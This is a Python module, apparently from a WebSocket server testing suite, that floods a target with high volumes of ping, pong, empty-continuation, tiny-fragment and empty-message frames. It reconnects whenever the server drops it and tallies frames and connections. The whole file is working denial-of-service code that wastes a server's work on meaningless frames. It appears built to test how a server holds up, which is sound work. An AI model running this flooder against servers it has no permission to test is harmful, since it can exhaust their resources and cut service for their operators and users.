"""Frames that cost a server work and mean nothing: pings, pongs, empty and tiny fragments."""

import selectors
import socket
import time
from contextlib import suppress

from attacks.target import (
    CONTINUATION,
    PING,
    PONG,
    TEXT,
    Report,
    Stopped,
    Target,
    ending,
    frame,
    watch,
)

BLOCK = 10_000  # frames in one write
# What begins an attack, and what is then sent again and again.
KINDS = {
    "pings": (b"", frame(PING)),
    "long pings": (b"", frame(PING, b"x" * 125)),
    "pongs": (b"", frame(PONG)),
    "empty continuations": (frame(TEXT, b"", last=False), frame(CONTINUATION, last=False)),
    "tiny fragments": (frame(TEXT, b" ", last=False), frame(CONTINUATION, b" ", last=False)),
    "empty messages": (b"", frame(TEXT)),
}


def flood(target: Target, kind: str, stopped: Stopped, most: int | None = None) -> Report:
    """A spectator who sends as fast as he can, and comes back when he is hung up on.

    With `most` he gives up after so many frames, or the first time he is hung up on.
    """
    report = Report()
    while not stopped():
        try:
            connection = watch(target)
        except OSError:
            report.refused += 1
            time.sleep(0.01)
            continue
        with connection:
            report.connections += 1
            sent = _flood_one(connection, kind, stopped, most)
            report.sent += sent
            report.bytes += sent * len(KINDS[kind][1])
            hung_up = not stopped() and (most is None or sent < most)
            if hung_up:
                report.closed[ending(connection)] += 1
        if most is not None:
            break
    return report


def _flood_one(connection: socket.socket, kind: str, stopped: Stopped, most: int | None) -> int:
    """Flood one socket until it is closed; how many frames went out."""
    first, again = KINDS[kind]
    block, sent = again * BLOCK, 0
    with selectors.DefaultSelector() as ready, suppress(OSError):
        connection.sendall(first)
        connection.setblocking(False)
        ready.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
        rest = memoryview(block)
        while not stopped() and (most is None or sent < most):
            for _, events in ready.select(0.1):
                if events & selectors.EVENT_READ and not connection.recv(1 << 20):
                    return sent
                if events & selectors.EVENT_WRITE:
                    rest = rest[connection.send(rest) :]
                    if not rest:
                        sent, rest = sent + BLOCK, memoryview(block)
    with suppress(OSError):
        connection.settimeout(5)
    return sent
